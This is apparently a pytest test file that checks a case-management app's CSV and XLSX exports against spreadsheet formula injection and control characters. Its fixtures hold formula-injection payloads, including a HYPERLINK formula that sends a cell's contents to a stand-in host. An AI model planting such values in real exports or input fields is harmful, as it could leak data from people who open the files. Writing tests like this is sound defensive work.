"""Issue 13, point 1: no export (CSV or XLSX, any sheet) carries a live formula or a control
character, whatever was typed into a name, a description or a note."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from krs.models import Role
from krs.worklog import service as worklog
from tests.support import login

LINK = '=HYPERLINK("http://x/?"&E2,"Klik")'
HOSTILE = [LINK, "+1+2", "-1+2", "@SUM(A1:A9)"]


@pytest.fixture
def spv(units, make_user):
    return make_user(Role.SUPERVISOR, units["jawa2"], full_name="Sri Supervisor")


@pytest.mark.parametrize("name", HOSTILE)
def test_case_list_xlsx_writes_a_hostile_name_as_text(client, spv, make_case, name):
    make_case(name=name)
    login(client, spv)
    resp = client.get("/reports/cases.xlsx?view=all")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.get_data())).active
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) == 1
    cell = rows[0][3]  # Pemohon
    assert cell.data_type == "s" and cell.value == "'" + name
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("name", HOSTILE)
def test_case_list_csv_writes_a_hostile_name_with_an_apostrophe(client, spv, make_case, name):
    make_case(name=name)
    login(client, spv)
    resp = client.get("/reports/cases.csv?view=all")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][3] == "'" + name
    assert not [c for row in rows[1:] for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_case_list_csv_drops_control_characters_and_cannot_hide_a_formula_behind_one(client, spv, make_case):
    make_case(name="\x0b=1+2 Siti\x1f")
    login(client, spv)
    body = client.get("/reports/cases.csv?view=all").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[1][3] == "'=1+2 Siti"
    assert not any(ch in body for ch in "\x0b\x1f")


def test_evaluation_workbook_writes_a_hostile_staff_name_as_text(client, units, make_user, make_case):
    admin = make_user(Role.ADMIN)
    make_user(Role.STAFF, units["jawa2"], full_name=LINK)
    make_case()
    login(client, admin)
    resp = client.get("/reports/evaluation.xlsx")
    assert resp.status_code == 200
    wb = load_workbook(io.BytesIO(resp.get_data()))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + LINK and c.data_type == "s" for c in cells)


@pytest.fixture
def placement(units, make_user):
    intern = make_user(Role.INTERN, units["jawa2"], username="magang.satu", full_name="Ayu Lestari")
    spv = make_user(Role.SUPERVISOR, units["jawa2"], full_name="Joko Supervisor")
    today = worklog.today_for(intern)
    monday = worklog.week_start_of(today) - timedelta(days=7)
    worklog.save_placement(
        spv,
        worklog.PlacementData(
            intern.id, "Universitas Diponegoro", "Arsitektur", spv.id, monday - timedelta(days=14), today
        ),
    )
    return intern, spv, monday


def _approved_entries(intern, spv, monday, *texts):
    for text in texts:
        worklog.add_entry(intern, worklog.EntryData(monday, "field_visit", text, minutes=60))
    worklog.submit_week(intern, monday)
    worklog.approve_week(spv, worklog.week_of(intern, monday))
    return worklog.placements_of(intern)[0]


def test_logbook_xlsx_with_a_vertical_tab_is_200_and_drops_it(client, placement):
    intern, spv, monday = placement
    p = _approved_entries(intern, spv, monday, "Survei\x0b rumah")
    login(client, intern)
    resp = client.get(f"/worklog/placements/{p.id}/logbook.xlsx")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.get_data())).active
    values = [c for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert "Survei rumah" in values
    assert not [v for v in values if "\x0b" in v]


def test_logbook_xlsx_writes_a_hostile_description_as_text(client, placement):
    intern, spv, monday = placement
    p = _approved_entries(intern, spv, monday, *HOSTILE)
    login(client, spv)
    resp = client.get(f"/worklog/placements/{p.id}/logbook.xlsx")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.get_data())).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    shown = {c.value for c in cells if c.data_type == "s"}
    assert {"'" + text for text in HOSTILE} <= shown
    # the dates of the entries stay dates, the hours stay numbers
    first_entry = next(r for r in ws.iter_rows() if r[4].value == "'" + LINK)
    assert first_entry[0].is_date and first_entry[2].value == 1.0
